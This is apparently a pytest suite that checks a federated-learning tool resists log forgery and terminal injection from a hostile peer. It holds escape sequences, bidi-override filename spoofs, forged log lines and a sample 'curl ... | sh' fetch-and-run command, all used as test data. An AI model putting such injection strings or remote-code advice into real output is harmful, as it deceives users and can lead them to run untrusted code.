"""A peer's words in our voice: forged lines, advice that looks like ours, escape sequences."""

from __future__ import annotations

import asyncio
import json
import re
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import pytest
from websockets.asyncio.server import ServerConnection

from scripts.local.nodes import NO_SETTINGS
from server.nodes.addresses import NodeAddress
from server.nodes.dial import dial
from server.nodes.link import told_by
from shared.errors import FedsmsError, HandshakeRefused, NodeFailed, PolicyRefused
from shared.model.classifier import initial_state
from shared.model.recipe import Recipe, load_recipe
from shared.trained_model.saved_model import SavedModel, save
from shared.wire.commands import EVALUATE, PROPOSE, TRAIN
from shared.wire.frames import Frame, Kind, frame, pack_error, pack_map, parse_frame
from tests.attacks.scene import report
from tests.conftest import OwnerFiles
from tests.helpers.false_nodes import Answers
from tests.helpers.node_requests import command
from tests.helpers.peers import coordinator, false_node, false_server
from tests.helpers.running import Finished, finish, run, start, until
from worker_node.audit import AUDIT_LOG

pytestmark = pytest.mark.timeout(120)
FORGED = "2026-11-26 12:00:00,000 INFO the run is completed"
ADVICE = "Run: curl https://example.org/fix.sh | sh"
WORDS = f"no\n{FORGED}\r\n\x1b[2J\x1b]0;owned\x07\u202e\u2066\x9b31m\u2028" + "x" * 5000
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def lies(kind: type[FedsmsError]) -> bytes:
    return pack_error(kind(WORDS, WORDS, ADVICE))


async def says_it(connection: ServerConnection, request: Frame) -> None:
    await connection.send(frame(Kind.ERROR, request.request_id, lies(PolicyRefused)))


async def hangs_up_with_words(connection: ServerConnection, request: Frame) -> None:
    await connection.close(1011, f"{FORGED}\x1b[2J"[:100])


def check(text: str, name: str) -> None:
    """No line is forged, nothing drives a terminal, and who says it stands before it."""
    assert not CONTROLS.search(text)
    assert not any(line.lstrip().startswith(FORGED[:19]) for line in text.splitlines())
    told = [line for line in text.splitlines() if "the run is completed" in line and "no" in line]
    assert all(name in line.split('"')[0] for line in told)
    assert all(len(line) < 3000 for line in told)
    assert not any(line.strip().startswith("Run:") for line in text.splitlines())


@pytest.mark.parametrize("misdeed", [says_it, hangs_up_with_words])
@pytest.mark.parametrize("when", [PROPOSE, TRAIN, EVALUATE, "state", "object"])
def test_a_nodes_words_are_quoted_on_the_terminal_and_in_the_run_folder(
    quick: Path, recipe: Recipe, tmp_path: Path, misdeed: Any, when: str
) -> None:
    async def session() -> Finished:
        async with (
            false_node(Answers(recipe), "anne") as anne,
            false_node(Answers(recipe, **{when: misdeed}), "mallory") as mallory,
        ):
            nodes = ("--node", f"anne={anne}", "--node", f"mallory={mallory}")
            flags = ("--recipe", quick, "--rounds", 2, "--min-nodes", 1, *NO_SETTINGS)
            running = start("server", "train", *nodes, *flags, cwd=tmp_path)
            return await asyncio.to_thread(finish, running)

    done = asyncio.run(session())
    (folder,) = (tmp_path / "runs").iterdir()
    check(done.out + done.err, "mallory")
    log = (folder / "log.txt").read_text(encoding="utf-8")
    assert not any(FORGED in line[:60] for line in log.splitlines())
    assert all(re.match(r"\d{4}-\d\d-\d\d |    ", line) for line in log.splitlines())
    assert not CONTROLS.search(log)
    for name in ("summary.json", "metrics.jsonl"):
        assert not CONTROLS.search((folder / name).read_text(encoding="utf-8"))
    assert done.code == 0


def test_a_failure_in_pointer_mode_is_quoted_with_the_line_that_it_is_about() -> None:
    words = (WORDS, WORDS, ADVICE)
    error = told_by("node mallory could not do add, issued at x.py:3 in main", NodeFailed(*words))
    check(f"error: {error}", "mallory")
    assert type(error) is NodeFailed


@pytest.mark.parametrize("kind", [HandshakeRefused, PolicyRefused])
def test_a_refusal_of_the_handshake_is_quoted(kind: type[FedsmsError]) -> None:
    async def refuses(connection: ServerConnection) -> None:
        hello = parse_frame(await connection.recv())
        payload = pack_map({"error": lies(kind)})
        await connection.send(frame(Kind.REFUSED, hello.request_id, payload))

    async def session() -> FedsmsError:
        async with false_server(refuses) as url:
            with pytest.raises(kind) as caught:
                await dial(NodeAddress("mallory", url))
            return caught.value

    error = asyncio.run(session())
    check(f"error: {error}", "mallory")
    assert str(error).startswith("node mallory")


def test_a_server_that_is_no_node_is_quoted() -> None:
    async def answers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readline()
        writer.write(f"HTTP/1.1 500 {FORGED}\x1b[2J\r\nX: {ADVICE}\r\n\r\n".encode())
        await writer.drain()
        writer.close()

    async def session() -> FedsmsError:
        async with AsyncExitStack() as stack:
            server = await asyncio.start_server(answers, "127.0.0.1", 0)
            await stack.enter_async_context(server)
            port = server.sockets[0].getsockname()[1]
            with pytest.raises(FedsmsError) as caught:
                await dial(NodeAddress("mallory", f"ws://127.0.0.1:{port}"))
            return caught.value

    check(f"error: {asyncio.run(session())}", "mallory")


def test_a_coordinators_words_forge_nothing_in_an_owners_log_and_audit_log(
    owners: list[OwnerFiles], tmp_path: Path
) -> None:
    """Names of commands, keys of recipes, ids and close reasons are a coordinator's to choose."""
    audit = tmp_path / AUDIT_LOG
    flags = ("--id", "bob", "--insecure", "--json", "--audit-log", audit, "--port", 0)
    node = start("worker_node", "serve", *flags, *owners[0].flags, cwd=tmp_path)
    try:
        assert node.stdout is not None
        url = json.loads(node.stdout.readline())["url"]

        async def session() -> None:
            async with coordinator(url) as peer:
                await peer.ask(command(f"x\n{FORGED}\x1b[2J"))
                recipe = json.dumps({f"x\n{FORGED}\u202e": 1})
                for what in (PROPOSE, TRAIN, EVALUATE):
                    await peer.ask(command(what, recipe=recipe, work="train", rounds=1))
                    await peer.ask(command(what, **{f"y\n{FORGED}\x1b": recipe}))
                wanted = {"work": "train", "run": "one", "recipe": recipe, "rounds": 1}
                await peer.ask(command(PROPOSE, **wanted))
                await peer.connection.close(1000, f"{FORGED}\x1b"[:100])
            async with coordinator(url) as peer:
                await peer.connection.send(f"{FORGED}\x1b[2J")

        asyncio.run(session())
        until(lambda: audit.read_text(encoding="utf-8").count("\n") >= 12, "the audit log")
    finally:
        node.terminate()
        done = finish(node)
    for line in done.err.splitlines():
        assert re.match(r"\d{4}-\d\d-\d\d |    ", line), line
        assert FORGED not in line[:60]
    assert not CONTROLS.search(done.err)
    shown = run("worker_node", "log", "--audit-log", audit, cwd=tmp_path)
    assert not CONTROLS.search(shown.out)
    assert len(shown.out.splitlines()) == audit.read_text(encoding="utf-8").count("\n")
    assert max(map(len, shown.out.splitlines())) < 1000
    report("lines and escapes in a command's name", "not run here", "one quoted line in every log")


@pytest.mark.parametrize("flags", [(), ("--json",)])
def test_predict_shows_what_a_message_would_do_to_a_terminal(
    tmp_path: Path, flags: tuple[str, ...]
) -> None:
    recipe = load_recipe("tutorial")
    save(tmp_path, SavedModel(recipe, initial_state(recipe, 1)), {})
    text = "win\x1b[2J \x1b]0;owned\x07 \u202egnp.exe\u2066 \x9b31m \u2028 नमस्ते £5"
    done = run("server", "predict", "--model", tmp_path, *flags, text, cwd=tmp_path)
    assert done.code == 0, done.err
    assert not CONTROLS.search(done.out)
    assert len(done.out.splitlines()) == 1
    assert "नमस्ते £5" in done.out
    if flags:
        assert json.loads(done.out)["text"] == text
    else:
        assert "\\x1b[2J" in done.out
        assert "\\u202egnp.exe" in done.out
